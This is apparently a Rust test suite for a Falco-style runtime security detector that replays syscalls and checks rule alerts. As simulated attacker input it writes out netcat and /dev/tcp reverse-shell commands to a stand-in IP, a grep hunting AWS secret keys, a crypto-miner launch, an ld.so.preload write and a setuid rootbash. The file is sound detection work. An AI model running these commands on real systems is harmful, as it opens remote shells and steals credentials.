            ("group.gid", FieldJson::U64(1000)),
        ],
    );
    // grep for the key names is the other half of the rule.
    let alerts = r.spawn(
        1610,
        5501,
        &Image::new(
            "grep",
            &["-ri", "aws_secret_access_key", "/home", "/root"],
            "/usr/bin/grep",
        )
        .on_host(),
        TTY_PTS0,
    );
    assert_fields(only(&alerts, "Find AWS Credentials"), &[("proc.name", s("grep"))]);
}

#[test]
fn execution_from_dev_shm() {
    let mut r = Replay::on_node(RuleMatching::All);
    let alerts = r.spawn(
        1650,
        5600,
        &Image::new("/dev/shm/kdevtmpfsi", &[], "/dev/shm/kdevtmpfsi").on_host(),
        0,
    );
    let a = only(&alerts, "Execution from /dev/shm");
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("evt.res", s("SUCCESS")),
            ("proc.name", s("kdevtmpfsi")),
            ("proc.exepath", s("/dev/shm/kdevtmpfsi")),
            ("proc.cwd", s("/root/")),
            ("proc.pcmdline", s("bash")),
            ("user.name", s("root")),
        ],
    );
}

#[test]
fn netcat_remote_code_execution_in_container() {
    let mut r = Replay::on_node(RuleMatching::All);
    let alerts = r.spawn(
        4200,
        4400,
        &Image::new(
            "nc",
            &["-e", "/bin/sh", "203.0.113.9", "4444"],
            "/usr/bin/nc.traditional",
        )
        .filename("/usr/bin/nc"),
        0,
    );
    let a = only(&alerts, "Netcat Remote Code Execution in Container");
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("proc.name", s("nc")),
            ("proc.cmdline", s("nc -e /bin/sh 203.0.113.9 4444")),
            ("proc.exepath", s("/usr/bin/nc.traditional")),
            ("proc.pname", s("sh")),
        ],
    );
    assert_eq!(r.thread_field(4400, |t| text(&t.container_id)), SHORT_ID);
}

#[test]
fn redirect_stdin_to_network_connection_in_container() {
    let mut r = Replay::on_node(RuleMatching::All);
    // `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1` in the pod's shell.
    r.spawn(4200, 4500, &Image::new("bash", &["-i"], "/usr/bin/bash"), 0);
    let sock = [
        ("fd", P::Int(3)),
        ("domain", P::Int(AF_INET)),
        ("type", P::Int(SOCK_STREAM)),
        ("proto", P::Int(0)),
    ];
    assert!(r.send(SOCKET_X, 4500, &sock).is_empty());
    let connect = [
        ("res", P::Int(0)),
        ("tuple", P::Bytes(tuple([10, 244, 1, 7], 40112, [203, 0, 113, 9], 4444))),
        ("fd", P::Int(3)),
    ];
    assert!(r.send(code::CONNECT_X, 4500, &connect).is_empty());
    // Duplicating it anywhere but 0, 1 or 2 is not a redirect of the standard streams.
    assert!(r
        .send(
            DUP2_X,
            4500,
            &[("res", P::Int(10)), ("oldfd", P::Int(3)), ("newfd", P::Int(10))]
        )
        .is_empty());
    let alerts = r.send(
        DUP2_X,
        4500,
        &[("res", P::Int(0)), ("oldfd", P::Int(3)), ("newfd", P::Int(0))],
    );
    let a = only(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container");
    assert_fields(
        a,
        &[
            ("evt.type", s("dup2")),
            ("fd.name", s("10.244.1.7:40112->203.0.113.9:4444")),
            ("fd.type", s("ipv4")),
            ("fd.l4proto", s("tcp")),
            ("fd.sip", s("203.0.113.9")),
            ("fd.lport", FieldJson::U64(40112)),
            ("fd.rport", FieldJson::U64(4444)),
            ("proc.name", s("bash")),
            ("proc.cmdline", s("bash -i")),
            ("proc.pname", s("sh")),
        ],
    );
    assert_eq!(
        r.rules_fired(),
        vec!["Redirect STDOUT/STDIN to Network Connection in Container"]
    );
}

#[test]
fn redirect_on_host_is_mamorus_rule_not_the_container_one() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(1650, 5650, &Image::new("bash", &["-i"], "/usr/bin/bash").on_host(), 0);
    r.send(
        SOCKET_X,
        5650,
        &[
            ("fd", P::Int(3)),
            ("domain", P::Int(AF_INET)),
            ("type", P::Int(SOCK_STREAM)),
            ("proto", P::Int(0)),
        ],
    );
    r.send(
        code::CONNECT_X,
        5650,
        &[
            ("res", P::Int(0)),
            (
                "tuple",
                P::Bytes(tuple([192, 168, 10, 5], 51000, [203, 0, 113, 9], 4444)),
            ),
            ("fd", P::Int(3)),
        ],
    );
    let alerts = r.send(
        DUP2_X,
        5650,
        &[("res", P::Int(1)), ("oldfd", P::Int(3)), ("newfd", P::Int(1))],
    );
    let a = only(&alerts, "Redirect STDOUT/STDIN to Network Connection on Host");
    assert_fields(
        a,
        &[
            ("fd.name", s("192.168.10.5:51000->203.0.113.9:4444")),
            ("fd.type", s("ipv4")),
        ],
    );
}

#[test]
fn packet_socket_created_in_container() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(
        4200,
        4600,
        &Image::new("python3", &["sniff.py"], "/usr/bin/python3.11").filename("/usr/bin/python3"),
        0,
    );
    let alerts = r.send(
        SOCKET_X,
        4600,
        &[
            ("fd", P::Int(3)),
            ("domain", P::Int(AF_PACKET)),
            ("type", P::Int(SOCK_RAW)),
            ("proto", P::Int(ETH_P_ALL_BE)),
            ("flags", P::Int(0)),
        ],
    );
    let a = only(&alerts, "Packet socket created in container");
    assert_fields(
        a,
        &[
            ("evt.type", s("socket")),
            ("proc.name", s("python3")),
            ("proc.cmdline", s("python3 sniff.py")),
            ("proc.pname", s("sh")),
        ],
    );
    // An ordinary TCP socket in the same container is not.
    let tcp = [
        ("fd", P::Int(4)),
        ("domain", P::Int(AF_INET)),
        ("type", P::Int(SOCK_STREAM)),
        ("proto", P::Int(6)),
    ];
    assert!(r.send(SOCKET_X, 4600, &tcp).is_empty());
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let mut r = Replay::on_node(RuleMatching::All);
    // Downloaded into the container's writable layer, then run.
    let img = Image::new("./xmrig", &["-o", "pool.example:3333"], "/tmp/xmrig")
        .filename("./xmrig")
        .flags(exe_flag::EXE_WRITABLE | exe_flag::EXE_UPPER_LAYER);
    let alerts = r.spawn(4200, 4700, &img, 0);
    let a = only(&alerts, "Drop and execute new binary in container");
    assert_eq!(a.priority, Priority::Critical);
    assert_fields(
        a,
        &[
            ("evt.type", s("execve")),
            ("proc.exe", s("./xmrig")),
            ("proc.name", s("xmrig")),
            ("proc.exepath", s("/tmp/xmrig")),
            ("proc.cmdline", s("xmrig -o pool.example:3333")),
            ("proc.cwd", s("/app/")),
            ("proc.pname", s("sh")),
            ("evt.arg.flags", s("EXE_WRITABLE|EXE_UPPER_LAYER")),
        ],
    );
    assert_eq!(r.thread_field(4700, |t| text(&t.container_id)), SHORT_ID);
}

// ---------------------------------------------------------------------------------------------- mamoru ----

#[test]
fn write_below_etc() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(
        1650,
        5700,
        &Image::new("tee", &["-a", "/etc/ld.so.preload"], "/usr/bin/tee").on_host(),
        TTY_PTS0 + 1,
    );
    let alerts = r.openat(5700, 3, "/etc/ld.so.preload", o::O_WRONLY | o::O_CREAT | o::O_APPEND);
    let a = only(&alerts, "Write below etc");
    assert_eq!(a.priority, Priority::Error);
    assert_fields(
        a,
        &[
            ("fd.name", s("/etc/ld.so.preload")),
            ("evt.type", s("openat")),
            ("proc.name", s("tee")),
            ("proc.cmdline", s("tee -a /etc/ld.so.preload")),
            ("user.name", s("root")),
            ("container.id", s("host")),
        ],
    );
}

#[test]
fn write_below_binary_dir() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(
        1650,
        5800,
        &Image::new(
            "curl",
            &["-sLo", "/usr/local/bin/kubectl", "https://dl.example/kubectl"],
            "/usr/bin/curl",
        )
        .on_host(),
        TTY_PTS0 + 1,
    );
    let alerts = r.openat(5800, 5, "/usr/local/bin/kubectl", o::O_WRONLY | o::O_CREAT | o::O_TRUNC);
    let a = only(&alerts, "Write below binary dir");
    assert_fields(
        a,
        &[
            ("fd.name", s("/usr/local/bin/kubectl")),
            ("proc.name", s("curl")),
            ("user.name", s("root")),
            ("container.id", s("host")),
        ],
    );
}

#[test]
fn set_setuid_bit() {
    let mut r = Replay::on_node(RuleMatching::All);
    r.spawn(
        1650,
        5900,
        &Image::new("chmod", &["u+s", "/tmp/.rootbash"], "/usr/bin/chmod").on_host(),
        TTY_PTS0 + 1,
    );
    let alerts = r.send(
        FCHMODAT_X,
        5900,
        &[
            ("res", P::Int(0)),
            ("dirfd", P::Int(AT_FDCWD)),
            ("filename", P::Str("/tmp/.rootbash")),
            ("mode", P::Int((mode::S_ISUID | 0o755) as i64)),
        ],
    );
    let a = only(&alerts, "Set setuid or setgid bit");
    assert_fields(
        a,
        &[
            ("evt.arg.filename", s("/tmp/.rootbash")),
            ("evt.type", s("fchmodat")),
            ("proc.name", s("chmod")),
            ("user.name", s("root")),
            ("container.id", s("host")),
        ],
    );
    match field(a, "evt.arg.mode") {
        FieldJson::String(m) => assert!(m.contains("S_ISUID"), "mode rendered with its flag names: {m}"),
        other => panic!("evt.arg.mode: {other:?}"),
    }
    // A failed chmod changes nothing.
    let failed = r.send(
        FCHMODAT_X,
        5900,
        &[
            ("res", P::Int(-1)),
            ("dirfd", P::Int(AT_FDCWD)),
            ("filename", P::Str("/usr/bin/passwd")),
            ("mode", P::Int((mode::S_ISUID | 0o755) as i64)),
        ],
    );
    assert!(failed.is_empty());
}

// ------------------------------------------------------------------------------------- rule_matching ----

/// A netcat dropped into the container's writable layer matches both "Netcat Remote Code Execution in Container"
/// and "Drop and execute new binary in container".
fn dropped_netcat(matching: RuleMatching) -> Vec<String> {
    let mut r = Replay::on_node(matching);
    let img = Image::new("/tmp/nc", &["-e", "/bin/sh", "203.0.113.9", "4444"], "/tmp/nc")
        .flags(exe_flag::EXE_WRITABLE | exe_flag::EXE_UPPER_LAYER);
    r.spawn(4200, 4800, &img, 0)
        .iter()
        .map(|a| a.rule.to_string())
        .collect()
}

#[test]
fn rule_matching_all_reports_every_matching_rule_in_file_order() {
    assert_eq!(
        dropped_netcat(RuleMatching::All),
        vec![
            "Netcat Remote Code Execution in Container",
            "Drop and execute new binary in container"
        ]
    );
}

#[test]
fn rule_matching_first_reports_the_first_rule_in_file_order() {
    // Falco's `rule_matching: first` stops at the first matching rule in load order (the default).
    assert_eq!(
        dropped_netcat(RuleMatching::First),
        vec!["Netcat Remote Code Execution in Container"]
    );
}

// ------------------------------------------------------------------------------------------- benign ----

#[test]
fn ordinary_activity_fires_nothing() {
    let mut r = Replay::new(RuleMatching::All);
    let work = realistic_workload(50_000, 7, 0);
    let mut threads = work.threads.clone();
    threads.extend(node_processes());
    r.pipeline.on_state_record(ScapRecord::Threads(threads));
    node_users().into_iter().for_each(|u| r.pipeline.state.add_user(u));
    for i in 0..work.len() {
        r.feed(work.event(i));
    }
    assert_eq!(
        r.rules_fired(),
        Vec::<String>::new(),
        "the synthetic web/database host is quiet"
    );

    // alice at her login shell.
    r.spawn(
        1610,
        7000,
        &Image::new("ls", &["-la"], "/usr/bin/ls").on_host(),
        TTY_PTS0,
    );
    r.openat(7000, 3, "/home/alice", o::O_RDONLY | o::O_DIRECTORY | o::O_CLOEXEC);
    r.close(7000, 3);
    r.exit(7000);
    r.spawn(
        1610,
        7001,
        &Image::new("vim", &["notes.txt"], "/usr/bin/vim.basic").filename("/usr/bin/vim"),
        TTY_PTS0,
    );
    r.openat(7001, 3, "/home/alice/notes.txt", o::O_RDWR | o::O_CREAT);
    r.openat(7001, 4, "/etc/vim/vimrc", o::O_RDONLY);
    r.exit(7001);
    r.spawn(
        1610,
        7002,
        &Image::new("grep", &["-rn", "TODO", "src"], "/usr/bin/grep").on_host(),
        TTY_PTS0,
    );
    r.exit(7002);
    r.spawn(
        1610,
        7003,
        &Image::new("git", &["pull"], "/usr/bin/git").on_host(),
        TTY_PTS0,
    );
    r.exit(7003);

    // `sudo apt-get install -y nginx`: sudo reads its policy, apt-get runs dpkg, dpkg writes below /etc and the
    // binary directories and runs the maintainer script with sh.
    r.spawn(
        1610,
        7010,
        &Image::new("sudo", &["apt-get", "install", "-y", "nginx"], "/usr/bin/sudo")
            .on_host()
            .uid(0),
        TTY_PTS0,
    );
    r.openat(7010, 3, "/etc/sudoers", o::O_RDONLY | o::O_CLOEXEC);
    r.close(7010, 3);
    r.openat(7010, 3, "/etc/shadow", o::O_RDONLY | o::O_CLOEXEC);
    r.close(7010, 3);
    r.spawn(
        7010,
        7011,
        &Image::new("apt-get", &["install", "-y", "nginx"], "/usr/bin/apt-get").on_host(),
        TTY_PTS0,
    );
    r.openat(7011, 3, "/etc/apt/sources.list", o::O_RDONLY);
    r.spawn(
        7011,
        7012,
        &Image::new(
            "/usr/bin/dpkg",
            &["--status-fd", "23", "--configure", "nginx"],
            "/usr/bin/dpkg",
        )
        .on_host(),
        TTY_PTS0,
    );
    r.openat(
        7012,
        4,
        "/etc/nginx/nginx.conf.dpkg-new",
        o::O_WRONLY | o::O_CREAT | o::O_TRUNC,
    );
    r.openat(
        7012,
        5,
        "/usr/sbin/nginx.dpkg-new",
        o::O_WRONLY | o::O_CREAT | o::O_TRUNC,
    );
    r.openat(7012, 6, "/var/log/dpkg.log", o::O_WRONLY | o::O_CREAT | o::O_APPEND);
    r.send(
        FCHMODAT_X,
        7012,
        &[
            ("res", P::Int(0)),
            ("dirfd", P::Int(AT_FDCWD)),
            ("filename", P::Str("/usr/lib/dbus-1.0/dbus-daemon-launch-helper")),
            ("mode", P::Int((mode::S_ISUID | 0o754) as i64)),
        ],
    );
    r.spawn(
        7012,
        7013,
        &Image::new(
            "/bin/sh",
            &["/var/lib/dpkg/info/nginx.postinst", "configure"],
            "/usr/bin/dash",
        )
        .on_host(),
        TTY_PTS0,
    );
    r.spawn(
        7013,
        7014,
        &Image::new("systemctl", &["daemon-reload"], "/usr/bin/systemctl").on_host(),
        TTY_PTS0,
    );
    for tid in [7014, 7013, 7012, 7011, 7010] {
        r.exit(tid);
    }
    // sshd reads /etc/shadow to authenticate the next login.
    r.openat(540, 7, "/etc/shadow", o::O_RDONLY | o::O_CLOEXEC);
    assert_eq!(r.rules_fired(), Vec::<String>::new());
}
